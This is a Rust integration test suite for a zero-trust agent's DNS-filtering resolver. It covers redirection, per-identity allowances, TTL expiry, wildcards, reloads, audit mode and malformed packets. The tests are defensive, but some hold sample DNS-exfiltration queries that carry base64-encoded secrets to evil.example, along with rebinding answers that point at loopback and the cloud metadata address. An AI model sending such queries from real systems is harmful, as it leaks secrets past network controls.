//! The DNS path against a real upstream (dnsmasq on loopback) and real test addresses on
//! a peer (a veth pair into a network namespace; this host's own addresses are never
//! opened by an answer, see hostile_dns.rs): enrolled tasks' DNS is redirected to the agent's resolver whatever
//! server they address, allowed names install their answers for the identity only,
//! for the rule's ports and the answer's TTL, and everything else is refused.

use std::time::Duration;

use zt_agent_tests::{
    DENIED, Daemon, Dnsmasq, Identity, OK, Peer, Rule, TcpServer, run_probe_unenrolled,
};

/// Any resolver address: the kernel sends the query to the agent's resolver anyway.
const SOME_RESOLVER4: &str = "192.0.2.53";
const SOME_RESOLVER6: &str = "2001:db8::53";

/// `zt-probe dns` under an identity: its JSON answer.
fn dns(
    d: &Daemon,
    id: &str,
    how: &str,
    server: &str,
    name: &str,
    qtype: &str,
) -> serde_json::Value {
    let (code, out) = d.run(id, &["dns", how, server, name, qtype]);
    assert_eq!(code, OK, "dns {how} {server} {name} {qtype}: {out}");
    let line = out
        .lines()
        .find(|l| l.starts_with('{'))
        .unwrap_or_else(|| panic!("no answer: {out}"));
    serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {out}"))
}

fn answers(v: &serde_json::Value) -> Vec<String> {
    v["answers"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|x| x.as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

fn tcp(d: &Daemon, id: &str, ip: &str, port: u16) -> i32 {
    d.run(id, &["tcp", ip, &port.to_string()]).0
}

#[test]
fn allowed_name_resolves_then_connects_over_udp_tcp_v4_and_v6() {
    let peer = Peer::new("ztdns1", &["10.231.1.1/24", "fd00:231:1::1/64"]);
    let up = Dnsmasq::start(
        "allowed",
        &[
            ("10.231.1.1", "api.dns-a.test"),
            ("fd00:231:1::1", "api.dns-a.test"),
            ("10.231.1.1", "other.dns-a.test"),
        ],
        60,
    );
    let srv4 = peer.tcp_server("10.231.1.1");
    let srv6 = peer.tcp_server("fd00:231:1::1");
    let port4 = srv4.port;
    // One rule per family's server port, for the same name.
    let policy = Identity::new("dns-a")
        .egress(Rule::to(["api.dns-a.test"]).ports([port4]).tcp())
        .egress(Rule::to(["api.dns-a.test"]).ports([srv6.port]).tcp());
    let d = Daemon::start_with("dns-allowed", &policy, &["--dns-upstream", &up.upstream()]);

    // Nothing is open before the name is resolved.
    assert_eq!(tcp(&d, "dns-a", "10.231.1.1", port4), DENIED);
    assert_eq!(tcp(&d, "dns-a", "fd00:231:1::1", srv6.port), DENIED);

    // UDP, sendto: the answer comes back as if from the server the task addressed.
    let a = dns(&d, "dns-a", "udp", SOME_RESOLVER4, "api.dns-a.test", "A");
    assert_eq!(a["rcode"], "NOERROR", "{a}");
    assert_eq!(a["from"], format!("{SOME_RESOLVER4}:53"), "{a}");
    assert_eq!(a["id_ok"], true);
    assert_eq!(answers(&a), ["10.231.1.1"]);
    assert_eq!(tcp(&d, "dns-a", "10.231.1.1", port4), OK);
    // Only the rule's ports: another port of the same address stays closed.
    let other = peer.tcp_server("10.231.1.1");
    assert_eq!(tcp(&d, "dns-a", "10.231.1.1", other.port), DENIED);

    // AAAA over an IPv6 socket, connected UDP.
    let a6 = dns(
        &d,
        "dns-a",
        "udp-connect",
        SOME_RESOLVER6,
        "api.dns-a.test",
        "AAAA",
    );
    assert_eq!(a6["rcode"], "NOERROR", "{a6}");
    assert_eq!(a6["from"], format!("[{SOME_RESOLVER6}]:53"), "{a6}");
    assert_eq!(answers(&a6), ["fd00:231:1::1"]);
    assert_eq!(tcp(&d, "dns-a", "fd00:231:1::1", srv6.port), OK);

    // TCP DNS, both families; getpeername() names the server the task dialled.
    let t = dns(&d, "dns-a", "tcp", SOME_RESOLVER4, "api.dns-a.test", "A");
    assert_eq!(t["rcode"], "NOERROR", "{t}");
    assert_eq!(t["from"], format!("{SOME_RESOLVER4}:53"), "{t}");
    assert_eq!(answers(&t), ["10.231.1.1"]);
    let t6 = dns(&d, "dns-a", "tcp", SOME_RESOLVER6, "api.dns-a.test", "AAAA");
    assert_eq!(answers(&t6), ["fd00:231:1::1"], "{t6}");

    // The host's own stub resolver (glibc getaddrinfo, /etc/resolv.conf) works too: it
    // checks that the answer comes from the server it asked.
    let (code, out) = d.run("dns-a", &["resolve", "api.dns-a.test"]);
    assert_eq!(code, OK, "{out}");
    assert!(out.contains("10.231.1.1"), "{out}");

    // A name the identity may not resolve is refused, although upstream knows it.
    let r = dns(&d, "dns-a", "udp", SOME_RESOLVER4, "other.dns-a.test", "A");
    assert_eq!(r["rcode"], "REFUSED", "{r}");

    let ev = d.wait_event("dns allow", |e| {
        e["kind"] == "dns" && e["verdict"] == "allow" && e["query"] == "api.dns-a.test"
    });
    assert_eq!(ev["identity"], "dns-a");
    assert!(
        ev["installed"][0]
            .as_str()
            .is_some_and(|s| s.starts_with("10.231.1.1")),
        "{ev}"
    );
    assert!(ev["pid"].as_u64().is_some_and(|p| p > 0), "{ev}");
    let m = d.metrics();
    assert!(
        d.metric("zt_agent_dns_queries_total{identity=\"dns-a\",result=\"allowed\"}") >= 6.0,
        "{m}"
    );
    assert!(
        d.metric("zt_agent_dns_installed_addresses{identity=\"dns-a\"}") >= 2.0,
        "{m}"
    );
    assert!(m.contains("zt_agent_dns_latency_seconds_bucket"), "{m}");
}

#[test]
fn refused_names_exfiltration_and_other_identities() {
    let peer = Peer::new("ztdns2", &["10.231.2.1/24", "fd00:231:2::1/64"]);
    let up = Dnsmasq::start(
        "refused",
        &[
            ("10.231.2.1", "shared.dns-r.test"),
            ("fd00:231:2::1", "shared.dns-r.test"),
            ("10.231.2.1", "evil.example"),
            ("fd00:231:2::1", "evil.example"),
        ],
        60,
    );
    let srv = peer.tcp_server("10.231.2.1");
    let srv6 = peer.tcp_server("fd00:231:2::1");
    let policy = Identity::new("dns-r1")
        .egress(Rule::to(["shared.dns-r.test"]).ports([srv.port]).tcp())
        .egress(Rule::to(["shared.dns-r.test"]).ports([srv6.port]).tcp())
        .and(
            Identity::new("dns-r2")
                .egress(Rule::to(["nothing.dns-r.test"]).ports([srv.port]).tcp()),
        );
    let d = Daemon::start_with("dns-refused", &policy, &["--dns-upstream", &up.upstream()]);

    // Names outside the policy, and data smuggled in a query name.
    for name in [
        "evil.example",
        "c2VjcmV0IGtleTogaHVudGVyMg.evil.example",
        "dns-r.test",
    ] {
        let r = dns(&d, "dns-r1", "udp", SOME_RESOLVER4, name, "A");
        assert_eq!(r["rcode"], "REFUSED", "{name}: {r}");
        assert!(answers(&r).is_empty());
        d.wait_event("dns deny", |e| {
            e["kind"] == "dns"
                && e["verdict"] == "deny"
                && e["query"] == name.to_ascii_lowercase()
                && e["identity"] == "dns-r1"
        });
    }
    // TXT carries no address, but the name is still judged.
    let r = dns(
        &d,
        "dns-r1",
        "tcp",
        SOME_RESOLVER4,
        "c2VjcmV0.evil.example",
        "TXT",
    );
    assert_eq!(r["rcode"], "REFUSED", "{r}");

    // dns-r1 resolves a name; the address is open to dns-r1 only.
    let a = dns(
        &d,
        "dns-r1",
        "udp",
        SOME_RESOLVER4,
        "shared.dns-r.test",
        "A",
    );
    assert_eq!(answers(&a), ["10.231.2.1"], "{a}");
    assert_eq!(tcp(&d, "dns-r1", "10.231.2.1", srv.port), OK);
    assert_eq!(tcp(&d, "dns-r2", "10.231.2.1", srv.port), DENIED);
    // The same over IPv6: AAAA, an IPv6 socket, an IPv6 destination.
    let e6 = dns(
        &d,
        "dns-r1",
        "udp",
        SOME_RESOLVER6,
        "bWFpbA.evil.example",
        "AAAA",
    );
    assert_eq!(e6["rcode"], "REFUSED", "{e6}");
    let a6 = dns(
        &d,
        "dns-r1",
        "udp",
        SOME_RESOLVER6,
        "shared.dns-r.test",
        "AAAA",
    );
    assert_eq!(answers(&a6), ["fd00:231:2::1"], "{a6}");
    assert_eq!(tcp(&d, "dns-r1", "fd00:231:2::1", srv6.port), OK);
    assert_eq!(tcp(&d, "dns-r2", "fd00:231:2::1", srv6.port), DENIED);
    // dns-r2 may not resolve that name itself either.
    let r2 = dns(
        &d,
        "dns-r2",
        "udp",
        SOME_RESOLVER4,
        "shared.dns-r.test",
        "A",
    );
    assert_eq!(r2["rcode"], "REFUSED", "{r2}");
    assert_eq!(tcp(&d, "dns-r2", "10.231.2.1", srv.port), DENIED);

    // Unenrolled tasks' DNS is untouched: straight to the server they address.
    let (code, out) = run_probe_unenrolled(&["dns", "udp", &up.upstream(), "evil.example", "A"]);
    assert_eq!(code, OK, "{out}");
    assert!(
        out.contains("10.231.2.1") && out.contains(&up.upstream()),
        "{out}"
    );
    // Nobody may address the resolver itself, over UDP or TCP, enrolled or not: only
    // the kernel's redirection reaches it, so that the kernel says who asks.
    let port = d.state()["dns_port"].as_u64().expect("dns_port in state");
    for how in ["udp", "udp-connect", "tcp"] {
        for server in [format!("127.0.0.1:{port}"), format!("[::1]:{port}")] {
            let (code, out) =
                run_probe_unenrolled(&["dns", how, &server, "shared.dns-r.test", "A"]);
            assert_eq!(code, DENIED, "unenrolled {how} {server}: {out}");
            let (code, out) = d.run("dns-r2", &["dns", how, &server, "shared.dns-r.test", "A"]);
            assert_eq!(code, DENIED, "enrolled {how} {server}: {out}");
        }
    }
    assert_eq!(tcp(&d, "dns-r2", "10.231.2.1", srv.port), DENIED);

    assert!(d.metric("zt_agent_dns_queries_total{identity=\"dns-r1\",result=\"refused\"}") >= 4.0);
}

#[test]
fn allowances_lapse_after_the_ttl_also_without_the_daemon() {
    let peer = Peer::new("ztdns3", &["10.231.3.1/24", "fd00:231:3::1/64"]);
    let up = Dnsmasq::start(
        "ttl",
        &[
            ("10.231.3.1", "short.dns-t.test"),
            ("fd00:231:3::1", "short.dns-t.test"),
        ],
        2,
    );
    let srv4 = peer.tcp_server("10.231.3.1");
    let srv6 = peer.tcp_server("fd00:231:3::1");
    let policy = Identity::new("dns-t")
        .egress(Rule::to(["short.dns-t.test"]).ports([srv4.port]).tcp())
        .egress(Rule::to(["short.dns-t.test"]).ports([srv6.port]).tcp());
    let mut d = Daemon::start_with(
        "dns-ttl",
        &policy,
        &["--dns-upstream", &up.upstream(), "--dns-grace", "0"],
    );
    let a = dns(&d, "dns-t", "udp", SOME_RESOLVER4, "short.dns-t.test", "A");
    assert_eq!(a["ttls"][0], 2, "{a}");
    let a6 = dns(
        &d,
        "dns-t",
        "udp",
        SOME_RESOLVER6,
        "short.dns-t.test",
        "AAAA",
    );
    assert_eq!(answers(&a6), ["fd00:231:3::1"], "{a6}");
    assert_eq!(tcp(&d, "dns-t", "10.231.3.1", srv4.port), OK);
    assert_eq!(tcp(&d, "dns-t", "fd00:231:3::1", srv6.port), OK);
    // The daemon dies; the kernel still ends the allowance on time.
    d.kill9();
    std::thread::sleep(Duration::from_millis(2500));
    assert_eq!(tcp(&d, "dns-t", "10.231.3.1", srv4.port), DENIED);
    assert_eq!(tcp(&d, "dns-t", "fd00:231:3::1", srv6.port), DENIED);
    // And names cannot be resolved while it is down: fail closed.
    let (code, out) = d.run(
        "dns-t",
        &["dns", "udp", SOME_RESOLVER4, "short.dns-t.test", "A"],
    );
    assert_ne!(code, OK, "{out}");
    d.restart();
    let a = dns(&d, "dns-t", "udp", SOME_RESOLVER4, "short.dns-t.test", "A");
    assert_eq!(answers(&a), ["10.231.3.1"], "{a}");
    assert_eq!(tcp(&d, "dns-t", "10.231.3.1", srv4.port), OK);
}

#[test]
fn ttls_are_clamped_to_the_maximum() {
    let peer = Peer::new("ztdns4", &["10.231.4.1/24"]);
    let up = Dnsmasq::start("clamp", &[("10.231.4.1", "long.dns-c.test")], 86400);
    let srv = peer.tcp_server("10.231.4.1");
    let policy =
        Identity::new("dns-c").egress(Rule::to(["long.dns-c.test"]).ports([srv.port]).tcp());
    let d = Daemon::start_with(
        "dns-clamp",
        &policy,
        &[
            "--dns-upstream",
            &up.upstream(),
            "--dns-max-ttl",
            "1",
            "--dns-grace",
            "0",
        ],
    );
    let a = dns(&d, "dns-c", "udp", SOME_RESOLVER4, "long.dns-c.test", "A");
    assert_eq!(a["ttls"][0], 1, "the task is told the clamped TTL: {a}");
    assert_eq!(tcp(&d, "dns-c", "10.231.4.1", srv.port), OK);
    std::thread::sleep(Duration::from_millis(1500));
    assert_eq!(tcp(&d, "dns-c", "10.231.4.1", srv.port), DENIED);
}

#[test]
fn wildcards_match_subdomains_and_not_the_parent() {
    let peer = Peer::new("ztdns5", &["10.231.5.1/24", "fd00:231:5::1/64"]);
    let up = Dnsmasq::start(
        "wild",
        &[
            ("10.231.5.1", "a.cdn.dns-w.test"),
            ("10.231.5.1", "x.y.cdn.dns-w.test"),
            ("10.231.5.1", "cdn.dns-w.test"),
            ("10.231.5.1", "evilcdn.dns-w.test"),
            ("fd00:231:5::1", "a.cdn.dns-w.test"),
            ("fd00:231:5::1", "cdn.dns-w.test"),
        ],
        60,
    );
    let srv = peer.tcp_server("10.231.5.1");
    let policy =
        Identity::new("dns-w").egress(Rule::to(["*.cdn.dns-w.test"]).ports([srv.port]).tcp());
    let d = Daemon::start_with("dns-wild", &policy, &["--dns-upstream", &up.upstream()]);
    for name in ["a.cdn.dns-w.test", "X.Y.CDN.dns-w.test"] {
        let a = dns(&d, "dns-w", "udp", SOME_RESOLVER4, name, "A");
        assert_eq!(a["rcode"], "NOERROR", "{name}: {a}");
        assert_eq!(answers(&a), ["10.231.5.1"], "{name}: {a}");
    }
    for name in ["cdn.dns-w.test", "evilcdn.dns-w.test"] {
        let r = dns(&d, "dns-w", "udp", SOME_RESOLVER4, name, "A");
        assert_eq!(r["rcode"], "REFUSED", "{name}: {r}");
    }
    // The same over IPv6, for AAAA.
    let a6 = dns(
        &d,
        "dns-w",
        "udp",
        SOME_RESOLVER6,
        "a.cdn.dns-w.test",
        "AAAA",
    );
    assert_eq!(answers(&a6), ["fd00:231:5::1"], "{a6}");
    let r6 = dns(&d, "dns-w", "tcp", SOME_RESOLVER6, "cdn.dns-w.test", "AAAA");
    assert_eq!(r6["rcode"], "REFUSED", "{r6}");
}

#[test]
fn loopback_and_metadata_answers_are_never_installed() {
    let up = Dnsmasq::start(
        "rebind",
        &[
            ("127.0.0.1", "rebind.dns-l.test"),
            ("169.254.169.254", "meta.dns-l.test"),
            ("::1", "rebind.dns-l.test"),
            ("fe80::1", "meta.dns-l.test"),
        ],
        60,
    );
    let lo = TcpServer::new("127.0.0.1");
    let lo6 = TcpServer::new("::1");
    let policy = Identity::new("dns-l")
        .egress(
            Rule::to(["rebind.dns-l.test", "meta.dns-l.test"])
                .ports([lo.port])
                .tcp(),
        )
        .egress(Rule::to(["rebind.dns-l.test"]).ports([lo6.port]).tcp());
    let d = Daemon::start_with("dns-rebind", &policy, &["--dns-upstream", &up.upstream()]);
    for (name, t) in [
        ("rebind.dns-l.test", "A"),
        ("meta.dns-l.test", "A"),
        ("rebind.dns-l.test", "AAAA"),
        ("meta.dns-l.test", "AAAA"),
    ] {
        let a = dns(&d, "dns-l", "udp", SOME_RESOLVER4, name, t);
        assert_eq!(a["rcode"], "NOERROR", "{name} {t}: {a}");
        assert!(
            answers(&a).is_empty(),
            "withheld from the answer too: {name} {t}: {a}"
        );
    }
    assert_eq!(tcp(&d, "dns-l", "127.0.0.1", lo.port), DENIED);
    assert_eq!(tcp(&d, "dns-l", "::1", lo6.port), DENIED);

    // An identity whose literal rule allows 127.0.0.1 on one port sees the address in
    // its answer, but the name's rule opens no other port on it.
    let literal = TcpServer::new("127.0.0.1");
    d.reload(
        policy.clone().and(
            Identity::new("dns-l2")
                .egress(Rule::to(["127.0.0.1"]).ports([literal.port]).tcp())
                .egress(Rule::to(["rebind.dns-l.test"]).ports([lo.port]).tcp()),
        ),
    );
    let a = dns(
        &d,
        "dns-l2",
        "udp",
        SOME_RESOLVER4,
        "rebind.dns-l.test",
        "A",
    );
    assert_eq!(answers(&a), ["127.0.0.1"], "{a}");
    assert_eq!(tcp(&d, "dns-l2", "127.0.0.1", literal.port), OK);
    assert_eq!(tcp(&d, "dns-l2", "127.0.0.1", lo.port), DENIED);
    let ev = d.wait_event("withheld", |e| {
        e["kind"] == "dns"
            && e["query"] == "meta.dns-l.test"
            && e["withheld"][0] == "169.254.169.254"
    });
    assert!(ev["installed"].is_null(), "{ev}");
    assert_eq!(
        d.metric("zt_agent_dns_installed_addresses{identity=\"dns-l\"}"),
        0.0
    );
}

#[test]
fn malformed_packets_do_not_crash_the_resolver() {
    let _peer = Peer::new("ztdns6", &["10.231.6.1/24"]);
    let up = Dnsmasq::start("malformed", &[("10.231.6.1", "ok.dns-m.test")], 60);
    let policy = Identity::new("dns-m").egress(
        Rule::to(["ok.dns-m.test", "late.dns-m.test"])
            .ports([443])
            .tcp(),
    );
    let d = Daemon::start_with(
        "dns-malformed",
        &policy,
        &["--dns-upstream", &up.upstream()],
    );
    // A header with a question that runs off the end: FORMERR.
    let (code, out) = d.run(
        "dns-m",
        &["dns-raw", SOME_RESOLVER4, "abcd01000001000000000000036f6b"],
    );
    assert_eq!(code, OK, "{out}");
    assert!(out.contains("rcode=1"), "{out}");
    // Too short for a header, and a response posing as a query: no answer at all.
    for hex in ["ff", "00000000", "abcd81800000000000000000"] {
        let (code, out) = d.run("dns-m", &["dns-raw", SOME_RESOLVER4, hex]);
        assert_ne!(code, OK, "{hex}: {out}");
        assert!(out.contains("no reply"), "{hex}: {out}");
    }
    // Over IPv6 too.
    let (code, out) = d.run(
        "dns-m",
        &["dns-raw", SOME_RESOLVER6, "abcd01000001000000000000036f6b"],
    );
    assert_eq!(code, OK, "{out}");
    assert!(out.contains("rcode=1"), "{out}");
    // Garbage with a header: FORMERR.
    let (code, out) = d.run("dns-m", &["dns-raw", SOME_RESOLVER4, &"41".repeat(400)]);
    assert_eq!(code, OK, "{out}");
    assert!(out.contains("rcode=1"), "{out}");
    // Still answering.
    let a = dns(&d, "dns-m", "udp", SOME_RESOLVER4, "ok.dns-m.test", "A");
    assert_eq!(answers(&a), ["10.231.6.1"], "{a}");
    assert!(
        d.metric("zt_agent_dns_queries_total{identity=\"dns-m\",result=\"malformed\"}") >= 6.0,
        "{}",
        d.metrics()
    );
    // The upstream goes away: an allowed name gets SERVFAIL, counted, and the
    // resolver still answers what it can (the cached name, a refusal).
    drop(up);
    let f = dns(&d, "dns-m", "udp", SOME_RESOLVER4, "late.dns-m.test", "A");
    assert_eq!(f["rcode"], "SERVFAIL", "{f}");
    assert!(
        d.metric("zt_agent_dns_queries_total{identity=\"dns-m\",result=\"upstream_error\"}") >= 1.0
    );
    let a = dns(&d, "dns-m", "udp", SOME_RESOLVER4, "ok.dns-m.test", "A");
    assert_eq!(answers(&a), ["10.231.6.1"], "from the cache: {a}");
    let r = dns(&d, "dns-m", "udp", SOME_RESOLVER4, "other.dns-m.test", "A");
    assert_eq!(r["rcode"], "REFUSED", "{r}");
}

#[test]
fn a_reload_revokes_what_a_removed_name_installed() {
    let peer = Peer::new("ztdns7", &["10.231.7.1/24", "10.231.7.2/24"]);
    let up = Dnsmasq::start(
        "reload",
        &[
            ("10.231.7.1", "keep.dns-x.test"),
            ("10.231.7.2", "drop.dns-x.test"),
        ],
        60,
    );
    let keep = peer.tcp_server("10.231.7.1");
    let dropped = peer.tcp_server("10.231.7.2");
    let with_both = Identity::new("dns-x")
        .egress(Rule::to(["keep.dns-x.test"]).ports([keep.port]).tcp())
        .egress(Rule::to(["drop.dns-x.test"]).ports([dropped.port]).tcp());
    let d = Daemon::start_with(
        "dns-reload",
        &with_both,
        &["--dns-upstream", &up.upstream()],
    );
    dns(&d, "dns-x", "udp", SOME_RESOLVER4, "keep.dns-x.test", "A");
    dns(&d, "dns-x", "udp", SOME_RESOLVER4, "drop.dns-x.test", "A");
    assert_eq!(tcp(&d, "dns-x", "10.231.7.1", keep.port), OK);
    assert_eq!(tcp(&d, "dns-x", "10.231.7.2", dropped.port), OK);
    d.reload(Identity::new("dns-x").egress(Rule::to(["keep.dns-x.test"]).ports([keep.port]).tcp()));
    assert_eq!(
        tcp(&d, "dns-x", "10.231.7.1", keep.port),
        OK,
        "kept across the reload"
    );
    assert_eq!(
        tcp(&d, "dns-x", "10.231.7.2", dropped.port),
        DENIED,
        "revoked by the reload"
    );
    let r = dns(&d, "dns-x", "udp", SOME_RESOLVER4, "drop.dns-x.test", "A");
    assert_eq!(r["rcode"], "REFUSED", "{r}");
}

#[test]
fn audit_mode_answers_and_reports_but_installs_nothing_new() {
    let _peer = Peer::new("ztdns9", &["10.231.9.1/24"]);
    let up = Dnsmasq::start("audit", &[("10.231.9.1", "any.dns-u.test")], 60);
    let policy = Identity::new("dns-u")
        .audit()
        .egress(Rule::to(["listed.dns-u.test"]).ports([443]).tcp());
    let d = Daemon::start_with("dns-audit", &policy, &["--dns-upstream", &up.upstream()]);
    let a = dns(&d, "dns-u", "udp", SOME_RESOLVER4, "any.dns-u.test", "A");
    assert_eq!(answers(&a), ["10.231.9.1"], "audit mode never blocks: {a}");
    let ev = d.wait_event("dns audit", |e| {
        e["kind"] == "dns" && e["verdict"] == "audit"
    });
    assert_eq!(ev["query"], "any.dns-u.test");
    assert!(ev["installed"].is_null(), "{ev}");
}
